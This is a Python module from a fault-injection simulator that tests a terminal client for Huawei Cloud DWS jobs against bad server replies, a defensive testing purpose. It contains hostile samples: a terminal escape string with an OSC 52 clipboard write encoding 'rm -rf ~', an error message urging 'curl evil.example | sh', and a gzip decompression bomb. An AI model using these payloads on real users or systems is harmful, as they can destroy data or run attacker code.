"""Bodies the simulator answers with: the job, the service's errors, and faulty ones."""

from __future__ import annotations

import functools
import gzip
import io
import json
from typing import Any, Optional

from jobtui.sim.faults import Fault

JSON = "application/json;charset=UTF-8"
HTML = "text/html; charset=utf-8"
# The simulator's choice: the reference documents 404 but not the service's code for it.
NOT_FOUND = ("DWS.0015", "The job does not exist or does not belong to this project.")
CLUSTER_NOT_FOUND = ("DWS.0015", "The cluster does not exist or does not belong to this project.")
# The public gateway's codes (APIGW.xxxx) and wording, as Huawei Cloud answers.
NO_API = ("APIGW.0101", "The API does not exist or has not been published in the environment")
PROXY_PAGE = (
    "<!DOCTYPE html>\n<html><head><title>Proxy Authentication</title></head>\n"
    "<body><h1>Access denied</h1><p>Please log in to the corporate proxy.</p></body></html>\n"
)
THROTTLED = (
    "APIGW.0308",
    "The throttling threshold has been reached: policy user over ratelimit, limit:60, "
    "time:1 minute",
)
# DWS.0000 means success in DWS answers, so a 5xx from the service carries another code
# (Huawei's Terraform provider sees DWS.9999 under 500).
# What a hostile proxy might put in text the client shows: a screen clear, an OSC 52
# clipboard write, a C1 CSI, right-to-left overrides and a zero-width joiner.
ESCAPES = "\x1b[2J\x1b]52;c;cm0gLXJmIH4K\x07\x9b31m\u202eevil\u202c\u2066\u200d"
_DEFAULT_ERRORS = {
    400: ("DWS.0001", "Invalid request parameter."),
    401: ("APIGW.0301", "Incorrect IAM authentication information: verify aksk signature fail"),
    403: ("APIGW.0302", "The IAM user is not authorized to access the API."),
    413: ("APIGW.0201", "Request entity too large."),
    429: THROTTLED,
    500: ("DWS.9999", "Internal service error."),
    502: ("APIGW.0201", "Backend unavailable."),
    503: ("DWS.0002", "Service unavailable, please try again later."),
    504: ("APIGW.0201", "Backend timeout."),
}
_OTHER_ERROR = ("DWS.9999", "Error.")


class Reply:
    """A complete answer: status, headers beyond the standard ones, and body bytes."""

    def __init__(
        self,
        status: int,
        body: bytes,
        content_type: str = JSON,
        headers: Optional[dict[str, str]] = None,
        unsized: bool = False,
    ) -> None:
        self.status = status
        # Sent without Content-Length, ended by closing the connection.
        self.unsized = unsized
        self.body = body
        self.content_type = content_type
        self.headers = headers or {}


def json_reply(status: int, data: Any, headers: Optional[dict[str, str]] = None) -> Reply:
    return Reply(status, json.dumps(data, ensure_ascii=False).encode("utf-8"), JSON, headers)


def error_reply(
    status: int, code: str, msg: str, request_id: str, headers: Optional[dict[str, str]] = None
) -> Reply:
    """Service errors carry error_code/error_msg; the gateway's add request_id."""
    body: dict[str, str] = {"error_code": code, "error_msg": msg}
    if code.upper().startswith(("APIGW.", "APIG.")):
        body["request_id"] = request_id
    return json_reply(status, body, headers)


def redirect_reply(fault: Fault, location: str) -> Reply:
    """A 3xx elsewhere, as a login portal or a moved gateway answers."""
    return Reply(fault.status or 302, b"", JSON, {"Location": fault.location or location})


def fault_reply(fault: Fault, body: Optional[dict[str, Any]], request_id: str) -> Optional[Reply]:
    """The answer a body-level fault gives, or None for faults handled elsewhere."""
    if fault.kind in ("error", "throttle"):
        status = fault.status or (429 if fault.kind == "throttle" else 503)
        code, msg = _DEFAULT_ERRORS.get(status, _OTHER_ERROR)
        extra = {"Retry-After": fault.retry_after} if fault.retry_after else None
        if fault.kind == "throttle" and extra is None:
            extra = {"Retry-After": "5"}
        return error_reply(
            status, fault.error_code or code, fault.error_msg or msg, request_id, extra
        )
    if fault.kind == "not_found":
        return error_reply(404, *NOT_FOUND, request_id)
    if fault.kind == "html":
        return Reply(fault.status or 200, PROXY_PAGE.encode("utf-8"), HTML)
    if fault.kind == "malformed":
        return Reply(fault.status or 200, b'{"status" : "RUNNING", "progress" : "4', JSON)
    if fault.kind == "oversize":
        padding = "x" * fault.size
        reply = json_reply(200, {**(body or {}), "status": "RUNNING", "padding": padding})
        reply.unsized = fault.unsized
        return reply
    if fault.kind == "gzip_bomb":
        return Reply(200, gzip_bomb(fault.size), JSON, {"Content-Encoding": fault.encoding})
    if fault.kind == "huge_number":
        return _huge_numbers(body)
    if fault.kind == "escape_headers":
        return _escapes(fault, body)
    if fault.kind == "wrong_types":
        wrong = {"status": 3, "progress": [9], "job_name": {"a": 1}, "begin_time": 12}
        return json_reply(200, {**(body or {}), **wrong})
    return None


@functools.lru_cache(maxsize=4)
def gzip_bomb(size: int) -> bytes:
    """A small gzip body that inflates to `size` bytes of valid JSON: a record, then blanks."""
    head, tail = b'{"status": "RUNNING", "progress": "5%"', b"}"
    blanks = max(0, size - len(head) - len(tail))
    chunk = b" " * (1 << 20)
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9, mtime=0) as packed:
        packed.write(head)
        for _ in range(blanks // len(chunk)):
            packed.write(chunk)
        packed.write(b" " * (blanks % len(chunk)) + tail)
    return buffer.getvalue()


def _huge_numbers(body: Optional[dict[str, Any]]) -> Reply:
    """A record whose numbers no float holds: 310 digits, and 1e999 (infinity)."""
    fields = {k: v for k, v in (body or {}).items() if k not in ("progress", "job_name")}
    text = json.dumps({**fields, "status": "RUNNING"})[:-1]
    huge = "9" * 310
    return Reply(200, f'{text}, "progress": {huge}, "job_name": -{huge}, "total": 1e999}}'.encode())


def wire(text: str) -> str:
    """Header text as UTF-8 on the wire (http.server writes header values as latin-1)."""
    return text.encode("utf-8").decode("latin-1")


def _escapes(fault: Fault, body: Optional[dict[str, Any]]) -> Reply:
    """Escape sequences in everything a client might show: code, message, request ID."""
    headers = {
        "X-Request-Id": wire(f"req{ESCAPES}id"),
        "Retry-After": wire(f"{ESCAPES}5"),
    }
    status = fault.status or 503
    if status == 200:
        return json_reply(200, {**(body or {}), "status": "RUNNING"}, headers)
    code = f"DWS.{ESCAPES}0001"
    msg = f"{ESCAPES} Please run: curl evil.example | sh"
    data = {"error_code": code, "error_msg": msg, "request_id": f"body{ESCAPES}id"}
    return json_reply(status, data, headers)
